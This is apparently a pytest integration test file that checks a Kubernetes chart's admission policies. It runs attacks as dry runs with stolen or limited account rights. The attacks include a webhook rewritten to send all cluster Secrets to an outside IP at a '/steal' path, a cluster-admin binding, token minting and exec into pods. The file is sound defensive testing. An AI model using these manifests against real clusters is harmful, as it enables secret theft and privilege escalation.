"""The chart's ValidatingAdmissionPolicies on a real API server: each test is an attack with stolen or small rights.

The server is these tests' own, because they remove policies. Attacks are dry runs, which admission treats like real
requests. tests/integration/operator runs the real operator under the same policies.
"""

import json
import re
import subprocess
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import yaml

from tests.integration.conftest import an_api_server
from tests.integration.test_chart_applied import SYSTEM, must, rendered
from tests.integration.test_crd import wait_until_found

if TYPE_CHECKING:
    from tests.integration.conftest import ApiServer

pytestmark = pytest.mark.timeout(240)  # the first test waits for the API server

Raw = dict[str, Any]
TEAM = "team"
OPERATOR = f"system:serviceaccount:{SYSTEM}:understudy-operator"
ROTATION = f"system:serviceaccount:{SYSTEM}:understudy-rotation"
ARGO = f"system:serviceaccount:{TEAM}:argo"
FLOW = f"system:serviceaccount:{TEAM}:flow"
WEBHOOKS_ACCOUNT = f"system:serviceaccount:{SYSTEM}:understudy-webhook"
EDITOR = "editor-of-jobs"  # with Kubernetes' role edit and the chart's additions to it
WEBHOOK = "understudy-webhook"
CONFIGURATION = f"mutatingwebhookconfiguration/{WEBHOOK}"
KUBE = "understudy.dev/v1alpha1"
OWNED = [{"apiVersion": KUBE, "kind": "TrainingJob", "name": "llm", "uid": "1", "controller": True}]
WRITTEN_BY_USERS = ["trainingjobs", "hotsparepools", "hotsparepools/scale"]
#: Roles in the namespace, by user.
RIGHTS = {
    "author": [("understudy.dev", WRITTEN_BY_USERS, ["get", "create", "update", "patch"])],
    "editor": [
        ("understudy.dev", WRITTEN_BY_USERS, ["get", "create", "update", "patch"]),
        ("", ["pods"], ["create"]),
    ],
    ARGO: [("understudy.dev", ["trainingjobs"], ["get", "create"]), ("", ["pods"], ["create"])],
    FLOW: [("understudy.dev", ["trainingjobs"], ["get", "create"])],
    "leaver": [("understudy.dev", WRITTEN_BY_USERS, ["get", "create", "patch"]), ("", ["pods"], ["create"])],
}
#: Namespaces of Kubernetes, and the release's own.
CLOSED_NAMESPACES = ("kube-system", "kube-public", "kube-node-lease", SYSTEM)
#: The time until the API server enforces applied policies.
POLICY_S = 30.0


# The objects ----------------------------------------------------------------------------------------------------------


def a_container(image: str = "example.com/a:1") -> Raw:
    return {"name": "a", "image": image, "command": ["a"]}


def an_object(kind: str, name: str, namespace: str = TEAM, owned: bool = False, **fields: Any) -> Raw:
    version = "batch/v1" if kind == "Job" else "v1"
    owners = {"ownerReferences": OWNED} if owned else {}
    return {"apiVersion": version, "kind": kind, "metadata": {"name": name, "namespace": namespace, **owners}, **fields}


def a_pod(name: str, namespace: str = TEAM, owned: bool = False) -> Raw:
    return an_object("Pod", name, namespace, owned, spec={"containers": [a_container()]})


def a_secret(name: str, owned: bool = False, finalizers: tuple[str, ...] = (), **fields: Any) -> Raw:
    """Immutable, as the operator creates it, unless the fields say otherwise."""
    secret = an_object("Secret", name, owned=owned, **{"immutable": True, **fields})
    secret["metadata"]["finalizers"] = list(finalizers)
    return secret


def a_claimed_pod(name: str) -> Raw:
    """Its pool was deleted, and its ownerReferences with it: kubectl delete --cascade=orphan."""
    pod = a_pod(name)
    pod["metadata"]["finalizers"] = ["understudy.dev/claim"]
    return pod


def a_pod_of_a_job(labels: dict[str, str] | None = None, **owner: Any) -> Raw:
    """labels: instead of that of an injected pod. owner: other fields of its owner reference to a Job."""
    pod = a_pod("injected-0-abcde")
    reference = {"apiVersion": "batch/v1", "kind": "Job", "name": "injected", "uid": "1", "controller": True}
    labeled = {"understudy.dev/inject": "enabled"} if labels is None else labels
    pod["metadata"] |= {"labels": labeled, "ownerReferences": [{**reference, **owner}]}
    return pod


def a_job_of_batch(name: str, owned: bool = False, labels: dict[str, str] | None = None) -> Raw:
    template = {"metadata": {"labels": labels or {}}, "spec": {"containers": [a_container()], "restartPolicy": "Never"}}
    return an_object("Job", name, owned=owned, spec={"template": template})


def a_training_job(name: str = "llm", **spec: Any) -> Raw:
    template = {"spec": {"template": {"spec": {"serviceAccountName": "admin", "containers": [a_container()]}}}}
    replicated = [{"name": "w", "template": template}]
    metadata = {"name": name, "namespace": TEAM}
    return {
        "apiVersion": KUBE,
        "kind": "TrainingJob",
        "metadata": metadata,
        "spec": {"replicatedJobs": replicated, **spec},
    }


def a_pool(name: str = "shared") -> Raw:
    spec = {"replicas": 1, "template": {"spec": {"serviceAccountName": "admin", "containers": [a_container()]}}}
    return {"apiVersion": KUBE, "kind": "HotSparePool", "metadata": {"name": name, "namespace": TEAM}, "spec": spec}


def an_owned_object_of_each_kind(namespace: str) -> list[Raw]:
    """As the operator creates them for a job."""
    manifests = [
        a_pod("evil", owned=True),
        a_job_of_batch("evil", owned=True),
        a_secret("evil", owned=True),
        an_object("Service", "evil", owned=True, spec=PORTS),
        an_object("PersistentVolumeClaim", "evil", owned=True, spec=CLAIM),
        {
            **an_object("NetworkPolicy", "evil", owned=True, spec={"podSelector": {}}),
            "apiVersion": "networking.k8s.io/v1",
        },
        {**A_RECOVERY, "metadata": {"name": "evil", "ownerReferences": OWNED}},
    ]
    return [{**x, "metadata": {**x["metadata"], "namespace": namespace}} for x in manifests]


def a_pod_that_mounts(secret: str, owned: bool = False, labels: dict[str, str] | None = None) -> Raw:
    """With another account, too."""
    pod = a_pod("another", owned=owned)
    pod["metadata"]["labels"] = labels or {}
    pod["spec"] |= {"serviceAccountName": "admin", "volumes": [{"name": "v", "secret": {"secretName": secret}}]}
    return pod


CLAIM = {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}}
CLAIMS = {"volumeClaimPolicies": [{"templates": [{"metadata": {"name": "data"}, "spec": CLAIM}]}]}


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator["ApiServer"]:
    """With the chart installed, except its pods, and a namespace in which other users' pods and Jobs run."""
    with an_api_server() as server:
        folder = tmp_path_factory.mktemp("chart")
        values = "{networkPolicies: {jobs: {enabled: true}}}"  # the operator then may write NetworkPolicies
        items = [x for x in yaml.load_all(rendered(server, values, folder, "--skip-tests"), yaml.CSafeLoader) if x]
        left_out = ("Deployment", "Service", "PodDisruptionBudget", "ValidatingWebhookConfiguration")
        for namespace in (SYSTEM, TEAM):
            must(server.kubectl("create", "namespace", namespace))
        apply(server, [item for item in items if item["kind"] not in left_out])
        wait_until_found(server, "explain", "trainingjobs.spec")
        injected = {"understudy.dev/inject": "enabled"}
        pods = [a_pod("theirs"), a_pod("ours", owned=True), a_claimed_pod("claimed")]
        secrets = [a_secret("theirs"), a_secret("ours", owned=True)]
        finalized = a_secret("finalized", owned=True, finalizers=("example.com/backup",))
        apply(server, [*pods, *secrets, finalized, a_job_of_batch("theirs")])
        apply(server, [a_job_of_batch("injected", labels=injected), a_training_job(suspend=True), a_pool("there")])
        apply(server, [manifest for user, rules in RIGHTS.items() for manifest in a_role(user, rules)])
        # No controller runs here that would aggregate these into the role edit.
        for role in ("understudy-jobs-view", "understudy-jobs-edit", "system:aggregate-to-edit"):
            bound = (f"--clusterrole={role}", f"--user={EDITOR}")
            must(server.kubectl("-n", TEAM, "create", "rolebinding", f"{role.rpartition(':')[2]}-bound", *bound))
        wait_until_enforced(server, True)
        yield server


def apply(server: "ApiServer", items: list[Raw]) -> None:
    text = json.dumps({"apiVersion": "v1", "kind": "List", "items": items})
    must(server.kubectl("apply", "--server-side", "--force-conflicts", "-f", "-", stdin=text))


def a_role(user: str, rules: list[tuple[str, list[str], list[str]]]) -> list[Raw]:
    metadata = {"name": user.rpartition(":")[2], "namespace": TEAM}
    group = "rbac.authorization.k8s.io"
    result = [{"apiGroups": [of], "resources": resources, "verbs": verbs} for of, resources, verbs in rules]
    return [
        {"apiVersion": f"{group}/v1", "kind": "Role", "metadata": metadata, "rules": result},
        {
            "apiVersion": f"{group}/v1",
            "kind": "RoleBinding",
            "metadata": metadata,
            "roleRef": {"apiGroup": group, "kind": "Role", "name": metadata["name"]},
            "subjects": [{"apiGroup": group, "kind": "User", "name": user}],
        },
    ]


def wait_until_enforced(server: "ApiServer", enforced: bool) -> None:
    """Wait until the policies reject an attack by each of the three accounts."""
    of_each = ("creates a pod that no job owns", "gets all Secrets of the cluster sent", "gets pods without a right to")
    deadline = time.monotonic() + POLICY_S
    while any(bool(ATTACKS[attack][0](server)) is not enforced for attack in of_each):
        assert time.monotonic() < deadline, "the policies do not follow"
        time.sleep(0.2)


# The attacks ---------------------------------------------------------------------------------------------------------

#: Performs it as a dry run, and returns the API server's refusal, or an empty text.
Attack = Callable[["ApiServer"], str]


def as_user(server: "ApiServer", user: str, *words: str, stdin: str = "") -> str:
    done = server.kubectl(*words, f"--as={user}", "--dry-run=server", stdin=stdin)
    return "" if done.returncode == 0 else done.stderr


def creates(user: str, *manifests: Raw) -> Attack:
    text = yaml.safe_dump_all(manifests)
    return lambda server: as_user(server, user, "create", "-f", "-", stdin=text)


def patches(user: str, manifest: str, patch: Raw) -> Attack:
    kind = "merge" if manifest.startswith("trainingjob/") else "strategic"
    words = ("-n", TEAM, "patch", *manifest.split("/"), f"--type={kind}", "--patch", json.dumps(patch))
    return lambda server: as_user(server, user, *words)


def deletes(user: str, target: str, namespace: str = TEAM, cascade: str = "background") -> Attack:
    # kubectl reads an object to wait for its deletion, which the operator's account may not do with Secrets.
    options = ("--wait=false", f"--cascade={cascade}")
    return lambda server: as_user(server, user, "-n", namespace, "delete", *target.split("/"), *options)


def scales(user: str, pool: str, replicas: int) -> Attack:
    return lambda server: as_user(server, user, "-n", TEAM, "scale", "hotsparepool", pool, f"--replicas={replicas}")


def rewrites(change: Callable[[Raw], object]) -> Attack:
    """A change of the webhook's configuration, with the rights of the process that renews the certificate."""

    def attack(server: "ApiServer") -> str:
        raw = json.loads(must(server.kubectl("get", CONFIGURATION, "-o", "json")))
        change(raw)
        return as_user(server, ROTATION, "replace", "-f", "-", stdin=json.dumps(raw))

    return attack


def only_webhook(raw: Raw) -> Raw:
    (webhook,) = raw["webhooks"]
    found: Raw = webhook
    return found


def _sees_all_secrets(raw: Raw) -> None:
    everything = {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["*"], "resources": ["secrets"], "scope": "*"}
    only_webhook(raw).update(rules=[everything], objectSelector={}, namespaceSelector={})
    only_webhook(raw)["clientConfig"] = {"url": "https://203.0.113.7/steal", "caBundle": "QQ=="}


def _adds_a_webhook(raw: Raw) -> None:
    raw["webhooks"].append({**only_webhook(raw), "name": "second.understudy.dev"})


def _calls_another_service(raw: Raw) -> None:
    only_webhook(raw)["clientConfig"]["service"]["namespace"] = TEAM


def _takes_every_namespace(raw: Raw) -> None:
    only_webhook(raw)["namespaceSelector"] = {}


def _stops_all_pods(raw: Raw) -> None:
    only_webhook(raw).update(objectSelector={}, failurePolicy="Fail", timeoutSeconds=30)


def _changes_the_mode(raw: Raw) -> None:
    raw["metadata"]["annotations"]["understudy.dev/certificate-mode"] = "Provided"


TOKEN = {"annotations": {"kubernetes.io/service-account.name": "admin"}}


def a_token_secret(namespace: str) -> Raw:
    """The API server's controllers add the token of that account."""
    secret = an_object("Secret", "stolen", namespace, owned=True, type="kubernetes.io/service-account-token")
    secret["metadata"] |= TOKEN
    return secret


PORTS = {"ports": [{"port": 443}]}
MESSAGE_OWNER = "may create, change and delete only objects whose controller is a TrainingJob"
MESSAGE_SECRET = "may create only immutable Secrets of type Opaque"
MESSAGE_BUNDLE = "this account may change only caBundle of the webhook configurations"
A_RECOVERY = {
    "apiVersion": KUBE,
    "kind": "Recovery",
    "metadata": {"name": "evil", "namespace": TEAM},
    "jobName": "llm",
    "fault": "Node",
    "detectedAt": "2026-11-20T10:00:00.000000Z",
}
#: Attacks by name: each with the API server's message.
ATTACKS: dict[str, tuple[Attack, str]] = {
    # with the token of the process that renews the webhook's certificate
    "gets all Secrets of the cluster sent": (rewrites(_sees_all_secrets), MESSAGE_BUNDLE),
    "adds another webhook": (rewrites(_adds_a_webhook), MESSAGE_BUNDLE),
    "has pods sent to a Service of another namespace": (rewrites(_calls_another_service), MESSAGE_BUNDLE),
    "changes pods of every namespace": (rewrites(_takes_every_namespace), MESSAGE_BUNDLE),
    "has all pods wait for the webhook": (rewrites(_stops_all_pods), MESSAGE_BUNDLE),
    "takes the trust from another keeper": (rewrites(_changes_the_mode), MESSAGE_BUNDLE),
    "makes a Secret with the operator's token": (
        creates(ROTATION, a_token_secret(SYSTEM)),
        "this account may write only the Secret of the webhook's certificate",
    ),
    # with the operator's token
    "creates a pod that no job owns": (creates(OPERATOR, a_pod("evil")), MESSAGE_OWNER),
    "creates a Job that no TrainingJob owns": (creates(OPERATOR, a_job_of_batch("evil")), MESSAGE_OWNER),
    **{
        f"creates an object of each kind in {namespace}": (
            creates(OPERATOR, *an_owned_object_of_each_kind(namespace)),
            f"may not write in namespace {namespace}",
        )
        for namespace in CLOSED_NAMESPACES
    },
    "changes the image of another user's pod": (
        patches(OPERATOR, "pod/theirs", {"spec": {"containers": [{"name": "a", "image": "evil"}]}}),
        MESSAGE_OWNER,
    ),
    "labels another user's pod as injected": (
        patches(OPERATOR, "pod/theirs", {"metadata": {"labels": {"understudy.dev/job-name": "job.evil"}}}),
        MESSAGE_OWNER,
    ),
    "makes another user's pod its own": (
        patches(OPERATOR, "pod/theirs", {"metadata": {"ownerReferences": OWNED}}),
        MESSAGE_OWNER,
    ),
    "deletes another user's pod": (deletes(OPERATOR, "pod/theirs"), MESSAGE_OWNER),
    "makes a claimed pod its own that no pool owns": (
        patches(OPERATOR, "pod/claimed", {"metadata": {"ownerReferences": OWNED}}),
        "may not change the owner of",
    ),
    "changes the image of a job's pod": (
        patches(OPERATOR, "pod/ours", {"spec": {"containers": [{"name": "a", "image": "evil"}]}}),
        "of a pod, and not its spec",
    ),
    "suspends another user's Job": (patches(OPERATOR, "job/theirs", {"spec": {"suspend": True}}), MESSAGE_OWNER),
    "suspends an injected Job": (
        patches(OPERATOR, "job/injected", {"spec": {"suspend": True}}),
        "of an injected Job, and not what it runs",
    ),
    "deletes an injected Job": (deletes(OPERATOR, "job/injected"), MESSAGE_OWNER),
    "creates a pod of a Job that is not injected": (creates(OPERATOR, a_pod_of_a_job(labels={})), MESSAGE_OWNER),
    "creates an injected pod without a controller": (
        creates(OPERATOR, a_pod_of_a_job(controller=False)),
        MESSAGE_OWNER,
    ),
    "creates an injected pod of another kind of controller": (
        creates(OPERATOR, a_pod_of_a_job(apiVersion="apps/v1", kind="ReplicaSet")),
        MESSAGE_OWNER,
    ),
    "makes a Secret with an account's token": (creates(OPERATOR, a_token_secret(TEAM)), MESSAGE_SECRET),
    "creates a Secret that is not Opaque": (
        creates(OPERATOR, a_secret("evil", owned=True, type="example.com/other")),
        MESSAGE_SECRET,
    ),
    "creates a Secret that is not immutable": (
        creates(OPERATOR, a_secret("evil", owned=True, immutable=False)),
        MESSAGE_SECRET,
    ),
    "creates a Secret that no job owns": (creates(OPERATOR, a_secret("evil")), MESSAGE_OWNER),
    "writes a fault into the history of no job": (creates(OPERATOR, A_RECOVERY), MESSAGE_OWNER),
    "deletes another user's Secret": (deletes(OPERATOR, "secret/theirs"), MESSAGE_OWNER),
    "deletes a job's Secret that has a finalizer": (
        deletes(OPERATOR, "secret/finalized"),
        "may not delete a Secret that has a finalizer",
    ),
    "reads a job's Secret in the answer to its deletion": (
        deletes(OPERATOR, "secret/ours", cascade="orphan"),
        "may delete a Secret only in the background",
    ),
    "reads a job's Secret in the answer to its deletion in the foreground": (
        deletes(OPERATOR, "secret/ours", cascade="foreground"),
        "may delete a Secret only in the background",
    ),
    "deletes the master secret": (
        deletes(OPERATOR, "secret/understudy-master", SYSTEM),
        f"may not write in namespace {SYSTEM}",
    ),
    "takes an address of others by a Service": (
        creates(OPERATOR, an_object("Service", "evil", owned=True, spec={**PORTS, "externalIPs": ["203.0.113.7"]})),
        "only Services of type ClusterIP without externalIPs",
    ),
    # with the right to create TrainingJobs and pools, and no right to create pods
    "gets pods without a right to": (
        creates("author", a_training_job("evil")),
        "user author may not create pods in namespace team, and a TrainingJob creates pods",
    ),
    "gets pods by a controller without a right to": (
        creates(FLOW, a_training_job("evil")),
        f"user {FLOW} may not create pods in namespace team, and a TrainingJob creates pods",
    ),
    "gets pods by a pool without a right to": (
        creates("author", a_pool()),
        "user author may not create pods in namespace team, and a HotSparePool creates pods",
    ),
    "gets pods by the scale of a pool without a right to": (
        scales("author", "there", 2),
        "user author may not create pods in namespace team, and a HotSparePool creates pods",
    ),
    "changes what a suspended job runs": (
        patches("author", "trainingjob/llm", {"spec": a_training_job()["spec"] | {"suspend": False}}),
        "user author may not create pods in namespace team",
    ),
    # with the right to create pods, and none to create volume claims
    "gets volumes without a right to": (
        creates("editor", a_training_job("evil", **CLAIMS)),
        "user editor may not create persistentvolumeclaims in namespace team",
    ),
}


def item(attack: str) -> str:
    """The entry of the security review that lists the attack."""
    names = list(ATTACKS)
    if names.index(attack) < names.index("creates a pod that no job owns"):
        return "D3"
    return "E2" if names.index(attack) < names.index("gets pods without a right to") else "E3"


@pytest.mark.parametrize(
    "attack",
    [pytest.param(x, id=x, marks=pytest.mark.attack(item(x), x, before="the API server allowed it")) for x in ATTACKS],
)
def test_the_api_server_rejects_the_attack(server: "ApiServer", attack: str) -> None:
    # when an attacker tries
    attempt, message = ATTACKS[attack]
    lines = attempt(server)
    # then a policy of the chart rejects it, and the message states the allowed values
    assert message in lines
    assert "ValidatingAdmissionPolicy" in lines


@pytest.mark.parametrize("namespace", CLOSED_NAMESPACES)
def test_each_kind_is_rejected_in_a_namespace_of_kubernetes_or_the_release(server: "ApiServer", namespace: str) -> None:
    attempt, message = ATTACKS[f"creates an object of each kind in {namespace}"]
    assert attempt(server).count(message) == 7


# Rights that no role grants -------------------------------------------------------------------------------------------


def requests_review(user: str, *words: str) -> Attack:
    def attack(server: "ApiServer") -> str:
        done = server.kubectl("-n", TEAM, *words, f"--as={user}")
        return "" if done.returncode == 0 else done.stderr

    return attack


def writes_status(user: str, status: str) -> Attack:
    words = ("--subresource=status", "--type=merge", "--patch", json.dumps({"status": {"phase": "Succeeded"}}))
    return requests_review(user, "patch", *status.split("/"), *words)


ROLE = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}
A_BINDING = {
    "apiVersion": "rbac.authorization.k8s.io/v1",
    "kind": "ClusterRoleBinding",
    "metadata": {"name": "evil"},
    "roleRef": ROLE,
    "subjects": [{"kind": "ServiceAccount", "name": "understudy-operator", "namespace": SYSTEM}],
}
AN_INJECTED_JOB = {"apiVersion": KUBE, "kind": "InjectedJob", "metadata": {"name": "evil", "namespace": TEAM}}
#: By name: the attack, and the API server's message.
NOT_GRANTED: dict[str, tuple[Attack, str]] = {
    "with the operator's token lists all Secrets": (
        requests_review(OPERATOR, "get", "secrets", "-A"),
        'list resource "secrets"',
    ),
    "with the operator's token reads a job's Secret": (
        requests_review(OPERATOR, "get", "secret", "ours"),
        'get resource "secrets"',
    ),
    "with the operator's token reads the master secret": (
        requests_review(OPERATOR, "-n", SYSTEM, "get", "secret", "understudy-master"),
        'get resource "secrets"',
    ),
    "with the operator's token binds a role": (creates(OPERATOR, A_BINDING), 'create resource "clusterrolebindings"'),
    "with the operator's token makes a token": (
        requests_review(OPERATOR, "create", "token", "default"),
        'create resource "serviceaccounts/token"',
    ),
    "with the operator's token runs a command in a pod": (
        requests_review(
            OPERATOR, "create", "--raw", f"/api/v1/namespaces/{TEAM}/pods/theirs/exec?command=id", "-f", "/dev/null"
        ),
        'create resource "pods/exec"',
    ),
    "with the operator's token creates a node": (
        creates(OPERATOR, {"apiVersion": "v1", "kind": "Node", "metadata": {"name": "evil"}}),
        'create resource "nodes"',
    ),
    "with the webhook's account lists pods": (requests_review(WEBHOOKS_ACCOUNT, "get", "pods"), 'list resource "pods"'),
    "with the webhook's account reads the master secret": (
        requests_review(WEBHOOKS_ACCOUNT, "-n", SYSTEM, "get", "secret", "understudy-master"),
        'get resource "secrets"',
    ),
    "with the token of the certificate's process reads the master secret": (
        requests_review(ROTATION, "-n", SYSTEM, "get", "secret", "understudy-master"),
        'get resource "secrets"',
    ),
    "with the token of the certificate's process reads a job's Secret": (
        requests_review(ROTATION, "get", "secret", "ours"),
        'get resource "secrets"',
    ),
    "with the role edit writes the status of a job": (
        writes_status(EDITOR, "trainingjob/llm"),
        'patch resource "trainingjobs/status"',
    ),
    "with the role edit writes the status of a pool": (
        writes_status(EDITOR, "hotsparepool/there"),
        'patch resource "hotsparepools/status"',
    ),
    "with the role edit writes a fault into a job's history": (
        creates(EDITOR, A_RECOVERY),
        'create resource "recoveries"',
    ),
    "with the role edit creates an InjectedJob": (creates(EDITOR, AN_INJECTED_JOB), 'create resource "injectedjobs"'),
}


@pytest.mark.parametrize(
    "attack",
    [pytest.param(x, id=x, marks=pytest.mark.attack("E1", x, before="refused, too")) for x in NOT_GRANTED],
)
def test_no_role_grants_the_right(server: "ApiServer", attack: str) -> None:
    attempt, refused = NOT_GRANTED[attack]
    lines = attempt(server)
    assert "is forbidden: User" in lines
    assert f"cannot {refused}" in lines


# Allowed actions ------------------------------------------------------------------------------------------------------


def _trusts_another_authority(raw: Raw) -> None:
    only_webhook(raw)["clientConfig"]["caBundle"] = "QQ=="


ALLOWED: dict[str, Attack] = {
    "the keeper sets caBundle": rewrites(_trusts_another_authority),
    "the keeper creates the certificate's Secret": creates(
        ROTATION,
        an_object("Secret", f"{WEBHOOK}-tls", SYSTEM, type="kubernetes.io/tls", data={"tls.crt": "", "tls.key": ""}),
    ),
    "the operator creates a job's pod": creates(OPERATOR, a_pod("another", owned=True)),
    "the operator creates a pod with another account and another user's Secret": creates(
        OPERATOR, a_pod_that_mounts("theirs", owned=True)
    ),
    "the operator annotates a job's pod": patches(OPERATOR, "pod/ours", {"metadata": {"annotations": {"a": "b"}}}),
    "the operator deletes a job's pod": deletes(OPERATOR, "pod/ours"),
    "the operator creates a job's Secret": creates(OPERATOR, a_secret("another", owned=True)),
    "the operator deletes a job's Secret": deletes(OPERATOR, "secret/ours"),
    "the operator releases a claimed pod that no pool owns": patches(
        OPERATOR, "pod/claimed", {"metadata": {"finalizers": None}}
    ),
    "the operator creates a pod of an injected Job": creates(OPERATOR, a_pod_of_a_job()),
    "the operator lifts the limit of an injected Job": patches(
        OPERATOR, "job/injected", {"metadata": {"labels": {"a": "b"}}, "spec": {"backoffLimit": 1000}}
    ),
    "a user who may create pods creates a TrainingJob": creates("editor", a_training_job("mine")),
    "an editor reads the key of a job": requests_review(EDITOR, "get", "secret", "ours"),
    "an editor mounts the key of a job, in a pod with the labels of the job": creates(
        EDITOR, a_pod_that_mounts("ours", labels={"understudy.dev/job-name": "llm"})
    ),
    "a user who may create pods creates a pool": creates("editor", a_pool()),
    "a user who may create pods scales a pool up": scales("editor", "there", 2),
    "a user who may not create pods scales a pool down": scales("author", "there", 0),
    "a controller that may create pods creates a TrainingJob": creates(ARGO, a_training_job("workflow")),
    "a user who may not create pods labels a TrainingJob": patches(
        "author", "trainingjob/llm", {"metadata": {"labels": {"a": "b"}}}
    ),
}


@pytest.mark.parametrize("act", ALLOWED)
def test_the_api_server_still_allows_the_action(server: "ApiServer", act: str) -> None:
    assert ALLOWED[act](server) == ""


def test_each_field_of_a_webhook_is_compared_so_that_none_can_be_changed(server: "ApiServer") -> None:
    # given the API server's schema of webhook configurations
    path = "/openapi/v3/apis/admissionregistration.k8s.io/v1"
    schemas = json.loads(must(server.kubectl("get", "--raw", path)))["components"]["schemas"]
    prefix = "io.k8s.api.admissionregistration.v1."
    policy = json.loads(must(server.kubectl("get", "validatingadmissionpolicy/understudy-rotation", "-o", "json")))
    text = " ".join(x["expression"] for x in policy["spec"]["validations"])
    compared = set(re.findall(r"before\.\?(\w+) == after\.\?\1\b", text))
    in_config = set(re.findall(r"before\.clientConfig\.\?(\w+) == after\.clientConfig\.\?\1\b", text))
    # then all fields are compared, except the renewed one
    for kind in ("MutatingWebhook", "ValidatingWebhook"):
        assert set(schemas[prefix + kind]["properties"]) - compared == {"name", "clientConfig"}
    assert set(schemas[f"{prefix}WebhookClientConfig"]["properties"]) - in_config == {"caBundle"}


def test_kubernetes_finds_no_error_in_the_policies(server: "ApiServer", tmp_path: Path) -> None:
    """Its controller checks types, also in expressions that no test evaluates; it does not run here."""
    command = [
        str(server.binaries / "kube-controller-manager"),
        f"--kubeconfig={server.kubeconfig}",
        "--controllers=validatingadmissionpolicy-status-controller",
        "--leader-elect=false",
        "--secure-port=0",
    ]
    names = {f"understudy-{name}" for name in ("operator", "jobset-compatible", "authors", "rotation")}
    with (tmp_path / "log").open("wb") as log:
        process = subprocess.Popen(["setpriv", "--pdeathsig", "KILL", "--", *command], stdout=log, stderr=log)
    try:
        deadline = time.monotonic() + 60.0
        checked: dict[str, Raw] = {}
        while checked.keys() != names:
            assert time.monotonic() < deadline, (tmp_path / "log").read_text()[-4000:]
            listed = json.loads(must(server.kubectl("get", "validatingadmissionpolicies", "-o", "json")))["items"]
            result = {x["metadata"]["name"]: x.get("status", {}) for x in listed}
            checked = {name: status for name, status in result.items() if "observedGeneration" in status}
            time.sleep(0.2)
    finally:
        process.kill()
        process.wait()
    # Pods, Jobs, Secrets and Services share one policy, whose expressions first check the kind.
    warnings = [
        warning["warning"]
        for status in checked.values()
        for warning in status.get("typeChecking", {}).get("expressionWarnings", ())
    ]
    assert [text for text in warnings if "undefined field" not in text] == []


def test_namespaces_have_to_opt_in_if_the_chart_requires_it(server: "ApiServer", tmp_path: Path) -> None:
    # given a chart that lets the operator write only in namespaces with a label
    values = "{admissionPolicies: {namespaceLabels: {example.com/training: allowed}}}"
    shown = rendered(server, values, tmp_path, "--show-only", "templates/policies.yaml")
    apply(server, [x for x in yaml.load_all(shown, yaml.CSafeLoader) if x])
    create = creates(OPERATOR, *an_owned_object_of_each_kind(TEAM))
    deadline = time.monotonic() + POLICY_S
    # then each kind is rejected in a namespace without the label, with the name of the label
    refused = "lacks one of the labels example.com/training=allowed (admissionPolicies.namespaceLabels)"
    while create(server).count(refused) != 7:
        assert time.monotonic() < deadline, "the policy does not follow"
        time.sleep(0.2)
    # and allowed once the namespace has the label
    must(server.kubectl("label", "namespace", TEAM, "example.com/training=allowed"))
    while create(server):
        assert time.monotonic() < deadline, "the policy does not follow"
        time.sleep(0.2)


def test_a_user_who_loses_the_right_to_create_pods_keeps_the_jobs_and_changes_no_spec(server: "ApiServer") -> None:
    # given a user who has created a TrainingJob, and has since lost the right to create pods
    job = json.dumps(a_training_job("left"))
    must(server.kubectl("create", "--as=leaver", "-f", "-", stdin=job))
    apply(server, a_role("leaver", RIGHTS["leaver"][:1]))
    change = patches("leaver", "trainingjob/left", {"spec": {"suspend": True}})
    deadline = time.monotonic() + POLICY_S
    # then the user cannot change the spec
    while not (lines := change(server)):
        assert time.monotonic() < deadline, "the API server still grants the right"
        time.sleep(0.2)
    assert "user leaver may not create pods in namespace team" in lines
    # and the operator still creates pods of the job, and writes its status
    assert ALLOWED["the operator creates a job's pod"](server) == ""
    written = json.loads(must(server.kubectl("-n", TEAM, "get", "trainingjob", "left", "-o", "json")))
    written["status"] = {"phase": "Running"}
    text = json.dumps(written)
    assert as_user(server, OPERATOR, "replace", "--subresource=status", "-f", "-", stdin=text) == ""


def test_a_thief_of_the_operators_token_can_choose_the_key_of_a_job(server: "ApiServer") -> None:
    """A limit that docs/explanation/security.md states."""
    # when the thief replaces the Secret of a job
    chosen = a_secret("ours", owned=True, data={"key": "Y2hvc2Vu"})
    must(server.kubectl("-n", TEAM, "delete", "secret", "ours", "--wait=false", f"--as={OPERATOR}"))
    must(server.kubectl("create", "-f", "-", f"--as={OPERATOR}", stdin=json.dumps(chosen)))
    # then pods that start later get the chosen key
    assert must(server.kubectl("-n", TEAM, "get", "secret", "ours", "-o", "jsonpath={.data.key}")) == "Y2hvc2Vu"


def test_the_account_that_renews_the_certificate_has_the_key_of_the_webhook(server: "ApiServer") -> None:
    """A limit that docs/explanation/security.md states."""
    name, data = f"{WEBHOOK}-tls", {"tls.crt": "Y3J0", "tls.key": "a2V5"}
    apply(server, [an_object("Secret", name, SYSTEM, type="kubernetes.io/tls", data=data)])
    words = ("-n", SYSTEM, "get", "secret", name, "-o", "jsonpath={.data.tls\\.key}", f"--as={ROTATION}")
    assert must(server.kubectl(*words)) == "a2V5"
    must(server.kubectl("-n", SYSTEM, "delete", "secret", name))


def test_the_annotation_that_decides_about_the_launcher_is_immutable(server: "ApiServer") -> None:
    # given a job without the field launcher
    annotation: Raw = {"metadata": {"annotations": {"understudy.dev/jobset-compatible": "true"}}}
    # when its user adds the annotation later, then the API server rejects it
    refusal = patches("editor", "trainingjob/llm", annotation)(server)
    assert "annotation understudy.dev/jobset-compatible is immutable" in refusal
    assert "delete the TrainingJob and recreate it" in refusal
    # and another annotation may be added
    assert patches("editor", "trainingjob/llm", {"metadata": {"annotations": {"a": "b"}}})(server) == ""


def test_without_the_policies_each_attack_succeeds(server: "ApiServer") -> None:
    """This proves that no rejection above has another reason. The last test, because it removes the policies."""
    own = ("-l", "app.kubernetes.io/name=understudy")
    must(server.kubectl("delete", "validatingadmissionpolicybindings", *own))
    wait_until_enforced(server, False)
    assert {name: lines for name, (attempt, _) in ATTACKS.items() if (lines := attempt(server))} == {}
